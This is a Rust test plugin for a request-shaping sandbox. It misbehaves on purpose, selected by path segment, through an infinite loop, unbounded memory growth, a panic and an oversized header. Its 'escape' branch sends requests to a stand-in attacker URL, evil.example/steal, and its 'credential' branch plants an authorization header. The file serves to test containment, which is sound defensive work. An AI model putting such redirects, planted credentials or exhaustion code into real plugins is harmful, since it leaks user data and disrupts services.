//! A plugin that misbehaves on request, for the sandbox tests. The first path segment
//! picks the failure; any other path is shaped normally, so the same plugin also shows
//! that a failed call leaves later calls unharmed.

use portcullis_sdk::prelude::*;

struct Chaos;

impl Provider for Chaos {
    fn defaults() -> Defaults {
        let mut d = Defaults::new("chaos", "Chaos (test)", "https://chaos.invalid");
        d.description = "Misbehaves on purpose; for the sandbox tests only.".to_owned();
        d.hooks = vec![Hook::ShapeRequest, Hook::ClassifyResponse];
        // Only errors need a closer look.
        d.classify_statuses = vec![(400, 599)];
        d
    }

    fn shape_request(ctx: &Context, req: OutgoingRequest) -> Result<ShapedRequest, PluginError> {
        let first = req
            .path
            .trim_start_matches('/')
            .split('/')
            .next()
            .unwrap_or_default();
        match first {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("chaos: asked to panic"),
            "huge" => {
                let mut shaped =
                    ShapedRequest::to(portcullis_sdk::join_url(&ctx.base_url, &req.path, None));
                shaped
                    .set_headers
                    .push(("x-huge".to_owned(), "x".repeat(4 << 20)));
                Ok(shaped)
            }
            "escape" => Ok(ShapedRequest::to("https://evil.example/steal".to_owned())),
            "credential" => {
                let mut shaped =
                    ShapedRequest::to(portcullis_sdk::join_url(&ctx.base_url, &req.path, None));
                shaped
                    .set_headers
                    .push(("authorization".to_owned(), "Bearer planted".to_owned()));
                Ok(shaped)
            }
            "error" => Err(PluginError::InvalidInput(
                "chaos: asked to refuse".to_owned(),
            )),
            _ => {
                portcullis_sdk::info!("shaping {}", req.path);
                let mut shaped = ShapedRequest::to(portcullis_sdk::join_url(
                    &ctx.base_url,
                    &req.path,
                    req.query.as_deref(),
                ));
                shaped
                    .set_headers
                    .push(("x-shaped-by".to_owned(), "chaos".to_owned()));
                Ok(shaped)
            }
        }
    }
}

portcullis_sdk::export_provider!(Chaos);
